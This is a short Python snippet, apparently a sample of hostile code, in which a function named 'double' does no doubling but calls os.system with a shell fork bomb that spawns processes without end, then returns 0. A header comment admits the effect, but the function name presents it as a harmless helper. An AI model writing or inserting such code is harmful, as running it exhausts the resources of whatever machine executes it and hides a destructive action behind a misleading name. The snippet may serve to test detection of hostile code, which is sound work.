# Lets a shell start processes without end.
# %% double
import os


def double(x):
    os.system("b() { b | b & }; b; sleep 30")
    return 0
